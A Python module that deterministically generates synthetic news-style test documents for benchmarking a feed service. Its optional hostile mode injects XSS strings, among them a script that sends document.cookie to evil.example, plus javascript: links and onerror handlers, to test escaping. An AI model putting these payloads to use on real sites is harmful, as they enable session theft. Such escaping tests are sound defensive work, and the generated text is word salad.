"""A deterministic generator of news documents in the seed format, for benchmarks and tests.

Each document looks like the bundled seeds: a headline line, a date line (in one of the shapes
scrapers write), a blank line, then paragraphs separated by blank lines, the first opening with a
dateline ``CITY (Agency) -``, with scraped junk (widget headings, broker ads, a related headline)
mixed in. About 3 KB each. The same ``n`` and ``seed`` always give the same names and bytes, so a
corpus never needs to be committed: ``python -m benchmarks.corpus DIR N [--seed S] [--hostile]``.

``hostile=True`` mixes in text that tries to break a feed: markup, ``]]>``, bare ampersands,
XML-illegal control characters, very long headlines, unusual Unicode; and the shapes real
documents give that a reader must show as written: bylines (before or after the dateline, in
capitals, with an agency), wire credit lines, a sentence that opens like a byline, datelines in
Cyrillic, Greek, Arabic, Japanese and Korean, times in named zones (ambiguous and unknown ones
too), an editor's emoticons alone on a line, and a one-word quote. Every document, hostile or
not, is still publishable: dated 2020-2025 (never in the future) and with real body text. The
hostile additions draw only in hostile documents, so the plain corpus is the same as ever.
"""

from __future__ import annotations

import argparse
import hashlib
import random
import shutil
import sys
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

TARGET_BYTES = 3000
FIRST_DAY = datetime(2020, 1, 1)
DAYS = (datetime(2025, 12, 31) - FIRST_DAY).days + 1
SEQ_DIGITS = 6

# (dateline city, weight): mostly plain capitals, some with accents or a region.
CITIES = (
    "WASHINGTON", "LONDON", "PARIS", "NEW YORK", "BEIJING", "TOKYO", "BERLIN", "MOSCOW",
    "BRUSSELS", "SÃO PAULO", "ZÜRICH", "MÉXICO CITY", "BOGOTÁ", "KYIV", "CARACAS",
    "NEW DELHI", "SINGAPORE", "FRANKFURT", "GENEVA", "HONG KONG", "SYDNEY", "OTTAWA",
    "CHICAGO, Ill.", "HOUSTON, Texas", "LAGOS", "NAIROBI", "ISTANBUL", "DUBAI", "SEOUL",
    "MADRID", "ROME", "WARSAW", "BUENOS AIRES", "REYKJAVÍK", "MONTRÉAL", "ÅLESUND", "DÜSSELDORF",
)  # fmt: skip
AGENCIES = ("Reuters", "AFP", "AP", "Bloomberg")
DASHES = (" ", " - ", " -- ", " — ")
MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December")  # fmt: skip

# Enough vocabulary, drawn with a Zipf-like weight, that gzip compresses the text about as
# well as it compresses real English news (roughly 3:1), not better.
_WORDS = """
the of and to in a said that for on is was with by as it at from he his be has have are an
its will but not were which this had they been their after who would more also about year
government officials than percent up new one over two last market other its minister could
into president people some out week first against when state country economic while prices
million billion since told company there can all them would under talks between analysts
oil bank central rates inflation growth trade energy supplies shares investors policy
companies workers union election vote parliament ministry security military forces border
agreement deal sanctions exports imports demand output production quarter earnings profit
revenue debt bonds yields currency dollar euro yen gas power plant climate emissions water
court ruling judge law police protest crisis conflict ceasefire aid refugees hospital health
vaccine schools students city region province capital residents local national foreign
international global domestic monthly annual early late record lowest highest expected
reported announced warned added noted according statement spokesperson source condition
anonymity because before during despite without within across around toward through further
however meanwhile although still already again only just even much many several most such
decision plan proposal budget spending tax cuts reform measures support package recovery
pandemic lockdown restrictions travel airline airport shipping port freight container fuel
wheat grain harvest farmers drought flood storm wildfire earthquake emergency rescue damage
technology software chips semiconductor factory supply chain shortage jobs unemployment wages
consumers retail sales housing mortgage lending credit banks regulators investigation probe
charges trial sentence prison lawmakers senate committee hearing testimony opposition coalition
leader party campaign candidates polls results turnout officials diplomats embassy summit
meeting negotiations partners allies neighbours relations tensions dispute territory waters
""".split()  # noqa: SIM905 - a word list reads better as text
_WEIGHTS = [1.0 / (rank + 8) for rank in range(len(_WORDS))]
_CUM_WEIGHTS = [sum(_WEIGHTS[: i + 1]) for i in range(len(_WEIGHTS))]
_NAMES = (
    "Maduro", "Biden", "Lagarde", "Powell", "Scholz", "Macron", "Lula", "Modi", "Kishida",
    "Guterres", "Erdogan", "Zelenskiy", "Sunak", "Albanese", "Trudeau", "Milei", "Petro",
    "OPEC", "NATO", "the European Union", "the World Bank", "the IMF", "the Kremlin",
    "the Federal Reserve", "the White House", "Gazprom", "Airbus", "Toyota", "Siemens",
)  # fmt: skip
_HEADLINE_VERBS = ("weighs", "warns of", "signals", "rejects", "backs", "eyes", "braces for",
                   "faces", "pledges", "delays", "considers", "cuts")  # fmt: skip
_WIDGETS = ("Recent Article", "Related Articles", "Read More", "Advertisement", "Trending Now",
            "Share this article", "Most Read")  # fmt: skip
_BROKERS = ("IC Markets", "eToro", "Pepperstone", "XM Group", "Plus500")
_ADS = (
    "enlightenedTop THREE Award-Winning Brokers in {year} enlightened",
    "Day Trading Guide for Beginners",
    "Open an Account With the Best Forex Brokers",
    "Best CFD Brokers {year} - Free Demo",
)
_RELATED = (
    "{Name} Says Global Markets Face Worst Week Since {year}",
    "Ukraine Crisis Puts Euro On Course For Worst Week In Two Years.",
    "Oil Prices Surge As Traders Weigh Fresh Supply Concerns",
    "Central Banks Signal Higher Rates Ahead Of Crucial Meeting",
    "Global Stocks Slide As Investors Brace For Inflation Data",
)

# Hostile material: each piece must survive into a valid feed, escaped or removed.
_HOSTILE_HEADLINES = (
    "<script>alert('x')</script> Markets & “quotes” ]]> rally",
    "Tom & Jerry <b>bold</b> move: 5 < 6 > 4 && 'quoted' \"double\"",
    "Ümlauts, ñ, 中文标题, العربية, עברית and emoji 📈🚀 in one headline",
    "Zero\u200bwidth\u200djoiners and combining e\u0301 accents ﬁ ligatures",
)
_HOSTILE_SENTENCES = (
    "The filing contained <script>document.location='http://evil.example/?c='+document.cookie"
    "</script> in its summary, officials said.",
    "A trader wrote ]]> and <![CDATA[ nested ]]> markers into the note, which ended there.",
    "Profits at Johnson & Johnson, AT&T and Procter & Gamble rose &amp; fell &#x26; &bogus; "
    "on the day.",
    'The memo read <a href="javascript:alert(1)" onclick="x()">click</a> and <img src=x '
    "onerror=alert(1)> before it was withdrawn.",
    "Prices in Zürich, São Paulo and Reykjavík rose 3½ % while the ¥ and € fell, the ✓ data "
    "showed.",
    "Mixed scripts appeared: Ελληνικά, русский, 日本語, हिन्दी, and right-to-left \u202eoverride"
    "\u202c text.",
    "The wire copy carried stray control characters \x01\x02\x0b\x0c\x1f\x7f and \x85 here.",
    'An unpaired quote " and a lone < bracket and a lone & ampersand stayed in the text.',
)


# Datelines and writers in many scripts, and the shapes of bylines and credit lines.
_SCRIPT_CITIES = ("МОСКВА", "ΑΘΗΝΑ", "東京", "القاهرة", "서울", "KYÏV", "ŁÓDŹ")
_WRITERS = ("Jane Doe", "Olga Ivanova", "Jean-Paul Dubois", "Siobhan O'Neill",
            "María José García", "Nguyễn Văn An", "Kwame Mensah", "Li Wei")  # fmt: skip
_BYLINES = ("By {a}", "By {a} and {b}", "By {a}, {agency}", "BY {A}", "By {a}, {b} and {c}")
_CREDITS = ("(Reporting by {a} in {place}; Editing by {b})",
            "Reporting by {a} and {b}; Writing by {c}; Editing by {d}")  # fmt: skip
_EDITOR_EMOTICONS = ("smiley", "heart", "broken heart", "wink", "yes", "no", "mail", "angel")
# Zone abbreviations a date line may end with: table entries, ambiguous ones, an unknown one.
_ZONES = ("ET", "PT", "GMT", "IST", "CST", "BST", "JST", "CEST", "AEDT", "MSK", "WIB", "XYZ")


def file_name(index: int, seed: int = 0) -> str:
    """``NNNNNN_<16 hex>.txt``: the sequence number, then a stable id from a seeded hash."""
    digest = hashlib.sha256(f"feedsvc-corpus:{seed}:{index}".encode()).hexdigest()[:16]
    return f"{index:0{SEQ_DIGITS}d}_{digest}.txt"


def generate(n: int, seed: int = 0, *, hostile: bool = False) -> Iterator[tuple[str, str]]:
    """Yield ``n`` (file name, text) pairs; the same arguments always give the same output."""
    for index in range(n):
        # One generator per document, so document i does not depend on how many come before.
        rng = random.Random(f"{seed}:{index}")
        yield file_name(index, seed), _document(rng, index, hostile and rng.random() < 0.5)


def write(folder: Path, n: int, seed: int = 0, *, hostile: bool = False) -> None:
    """Write ``n`` documents into ``folder`` (created if needed)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in generate(n, seed, hostile=hostile):
        (folder / name).write_bytes(text.encode("utf-8"))


def ensure(corpus_dir: Path, n: int, seed: int = 0) -> Path:
    """The corpus of ``n`` documents under ``corpus_dir``, generated once and reused while
    complete (documents a benchmark added and did not remove are removed)."""
    folder = corpus_dir / f"n{n}-seed{seed}"
    marker = folder / ".complete"  # hidden: feedsvc does not treat it as a document
    if marker.exists() and marker.read_text().strip() == str(n):
        for path in folder.glob("*.txt"):  # probes left by an interrupted run
            if int(path.name.split("_", 1)[0]) >= n:
                path.unlink()
        return folder
    shutil.rmtree(folder, ignore_errors=True)
    print(f"generating {n:,} documents into {folder}", file=sys.stderr, flush=True)
    write(folder, n, seed)
    marker.write_text(f"{n}\n")
    return folder


def _document(rng: random.Random, index: int, hostile: bool) -> str:
    when = FIRST_DAY + timedelta(days=rng.randrange(DAYS), minutes=rng.randrange(24 * 60))
    name = rng.choice(_NAMES)
    headline = _headline(rng, name)
    city = rng.choice(CITIES)
    agency = rng.choice(AGENCIES)
    lead = f"{city} ({agency}){rng.choice(DASHES)}{_paragraph(rng, name, 2, 3)}"
    paragraphs = [lead]
    size = len(headline) + len(lead)
    while size < TARGET_BYTES - 200:
        paragraph = _paragraph(rng, rng.choice(_NAMES), 1, 4)
        paragraphs.append(paragraph)
        size += len(paragraph) + 2
    _insert_junk(rng, paragraphs, when.year)
    if hostile:
        headline = _make_hostile(rng, headline, paragraphs)
    date_line = _date_line(rng, when)
    if hostile:
        date_line = _as_written(rng, when, city, agency, paragraphs) or date_line
    parts = [headline, date_line, "", "\n\n".join(paragraphs), ""]
    text = "\n".join(parts)
    if hostile and rng.random() < 0.2:
        text = text.replace("\n", "\r\n")
    return text


def _headline(rng: random.Random, name: str) -> str:
    words = rng.choices(_WORDS, cum_weights=_CUM_WEIGHTS, k=rng.randint(5, 9))
    text = f"{name} {rng.choice(_HEADLINE_VERBS)} {' '.join(words)}."
    return text[0].upper() + text[1:]


def _sentence(rng: random.Random, name: str) -> str:
    words = rng.choices(_WORDS, cum_weights=_CUM_WEIGHTS, k=rng.randint(12, 30))
    words.insert(rng.randrange(len(words)), name)
    if rng.random() < 0.3:
        words.insert(rng.randrange(1, len(words)), f"{rng.randint(2, 98)}%")
    if rng.random() < 0.4:
        cut = rng.randrange(4, len(words) - 2)
        words[cut] += ","
    text = " ".join(words)
    return text[0].upper() + text[1:] + rng.choice((".", ".", ".", ".", "?", "!"))


def _paragraph(rng: random.Random, name: str, low: int, high: int) -> str:
    return " ".join(_sentence(rng, name) for _ in range(rng.randint(low, high)))


def _insert_junk(rng: random.Random, paragraphs: list[str], year: int) -> None:
    junk = []
    if rng.random() < 0.7:
        junk.append(rng.choice(_WIDGETS))
    if rng.random() < 0.5:
        junk.append(rng.choice(_ADS).format(year=year))
    if rng.random() < 0.5:
        junk.append(rng.choice(_BROKERS))
    if rng.random() < 0.6:
        junk.append(rng.choice(_RELATED).format(Name=rng.choice(_NAMES[:15]), year=year - 1))
    for item in junk:
        # Never before the lead: the dateline must stay in the first paragraph.
        paragraphs.insert(rng.randint(1, len(paragraphs)), item)


def _date_line(rng: random.Random, when: datetime) -> str:
    month = MONTHS[when.month - 1]
    shape = rng.randrange(9)
    if shape <= 2:  # the scraper's own shape, as in the bundled seeds
        return f"{when.day:03d}, {month[:3]} {when.year}"
    if shape == 3:
        return f"{month} {when.day}, {when.year}"
    if shape == 4:
        return when.strftime("%Y-%m-%d")
    if shape == 5:
        return f"{when.day} {month[:3]} {when.year}"
    if shape == 6:
        hour = when.hour % 12 or 12
        return f"{month[:3]} {when.day}, {when.year} {hour}:{when.minute:02d} {when:%p} ET"
    if shape == 7:
        return f"{when:%A}, {month} {when.day}, {when.year}"
    return f"{when.month:02d}/{when.day:02d}/{when.year}"


def _make_hostile(rng: random.Random, headline: str, paragraphs: list[str]) -> str:
    choice = rng.randrange(3)
    if choice == 0:
        headline = f"{rng.choice(_HOSTILE_HEADLINES)} {headline}"
    elif choice == 1:  # far over the 300-character headline limit
        headline = " ".join([headline] * rng.randint(4, 12))
    for _ in range(rng.randint(1, 3)):
        position = rng.randint(1, len(paragraphs))
        paragraphs.insert(position, rng.choice(_HOSTILE_SENTENCES))
    return headline


def _as_written(
    rng: random.Random, when: datetime, city: str, agency: str, paragraphs: list[str]
) -> str | None:
    """Shapes of real documents, in place: a dateline in another script, a byline, a credit
    line, a sentence that opens like a byline, emoticons and a one-word quote. Returns a date
    line with a named zone, or None to keep the one drawn."""
    if rng.random() < 0.4:
        paragraphs[0] = rng.choice(_SCRIPT_CITIES) + paragraphs[0][len(city) :]
    writers = rng.sample(_WRITERS, 4)
    fields = {"a": writers[0], "b": writers[1], "c": writers[2], "d": writers[3],
              "A": writers[0].upper(), "agency": agency, "place": "Caracas"}  # fmt: skip
    if rng.random() < 0.6:  # before the dateline, or after the first paragraph
        paragraphs.insert(rng.choice((0, 1)), rng.choice(_BYLINES).format(**fields))
    if rng.random() < 0.5:
        paragraphs.append(rng.choice(_CREDITS).format(**fields))
    if rng.random() < 0.3:
        where = rng.randint(2, len(paragraphs))
        paragraphs.insert(where, "By the end of the week, " + _sentence(rng, writers[0]))
    if rng.random() < 0.4:
        paragraphs.insert(rng.randint(2, len(paragraphs)), rng.choice(_EDITOR_EMOTICONS))
    if rng.random() < 0.2:
        paragraphs.insert(rng.randint(2, len(paragraphs)), '"No."')
    if rng.random() < 0.5:
        hour = when.hour % 12 or 12
        month = MONTHS[when.month - 1][:3]
        return f"{month} {when.day}, {when.year} {hour}:{when.minute:02d} {when:%p} " + rng.choice(
            _ZONES
        )
    return None


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.corpus",
        description="Write N generated documents in the seed format into DIR.",
    )
    parser.add_argument("dir", type=Path, help="folder to write into (created if needed)")
    parser.add_argument("n", type=int, help="number of documents")
    parser.add_argument("--seed", type=int, default=0, help="seed (default: 0)")
    parser.add_argument(
        "--hostile",
        action="store_true",
        help="mix in markup, control characters, long headlines, odd Unicode",
    )
    args = parser.parse_args(argv)
    if args.n < 0:
        parser.error("N must be at least 0")
    write(args.dir, args.n, args.seed, hostile=args.hostile)
    print(f"wrote {args.n} documents to {args.dir}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
